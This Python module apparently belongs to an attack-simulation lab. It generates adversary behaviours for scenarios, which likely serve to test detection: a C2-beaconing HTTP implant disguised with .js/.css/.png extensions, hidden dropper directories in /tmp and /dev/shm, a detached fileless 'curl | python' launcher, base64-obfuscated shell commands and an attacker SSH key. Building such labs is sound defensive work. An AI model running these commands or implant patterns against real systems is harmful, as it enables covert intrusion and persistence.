"""Building blocks several scenarios share: the HTTP implant and where droppers put files.

Each function returns payloads to publish on the C2 server or shell text to send, drawn
from the run's seed so names and paths differ between runs.
"""

from __future__ import annotations

import base64
import shlex

from provarmor.lab.context import PYTHON, LabContext
from provarmor.lab.payloads import python_implant
from provarmor.lab.scenario import Payload

DROP_BASES = ("/tmp", "/var/tmp", "/dev/shm")  # noqa: S108  (where droppers really write)


def drop_dir(ctx: LabContext) -> str:
    """A hidden directory in a world-writable place (``/var/tmp/.cache-k3x9``)."""
    return f"{ctx.names.pick(DROP_BASES)}/{ctx.names.hidden()}"


def implant_payload(
    ctx: LabContext, *, agent: str = "", lifetime: int = 120, shebang: bool = False
) -> Payload:
    """The Python HTTP implant for ``agent`` (the context's default implant when empty),
    published under a seeded path."""
    source = python_implant(
        beacon_url=f"{ctx.c2.url}{ctx.c2.beacon_path}/{agent or ctx.c2.agent}",
        result_url=f"{ctx.c2.url}{ctx.c2.result_path}",
        interval=ctx.names.jitter(0.2, 0.5),
        lifetime=lifetime,
    )
    if shebang:
        source = f"#!{PYTHON}\n{source}"
    extension = ctx.names.pick((".js", ".css", ".png", ".txt", ""))
    return Payload(
        path=f"{ctx.names.pick(('static', 'assets', 'img'))}/{ctx.names.token(7)}{extension}",
        content=source,
    )


def fileless_start(url: str) -> str:
    """Shell that pipes the Python program at ``url`` straight into the interpreter, detached
    (nothing is written to disk)."""
    return f"nohup sh -c 'curl -s {url} | {PYTHON} -' >/dev/null 2>&1 &"


def encoded(command: str) -> str:
    """``command`` as attackers hide it: base64, decoded and piped into sh."""
    blob = base64.b64encode(command.encode()).decode("ascii")
    return f"echo {blob} | base64 -d | sh"


def quoted(text: str) -> str:
    return shlex.quote(text)


def scan_targets(ctx: LabContext) -> list[str]:
    """The lab addresses a scanner may probe (never anything else)."""
    return sorted(host.address for host in ctx.network.hosts.values())


SCAN_PORTS = (21, 22, 25, 80, 443, 3306, 5432, 6379, 8000, 8080, 8443, 9000)


def ssh_public_key(ctx: LabContext) -> str:
    """A well-formed ed25519 public key line for the attacker (random key material)."""
    kind = b"ssh-ed25519"
    key = bytes(ctx.names.rng.randrange(256) for _ in range(32))
    blob = len(kind).to_bytes(4, "big") + kind + len(key).to_bytes(4, "big") + key
    comment = f"{ctx.names.token(5)}@{ctx.names.token(6)}"
    return f"ssh-ed25519 {base64.b64encode(blob).decode('ascii')} {comment}"
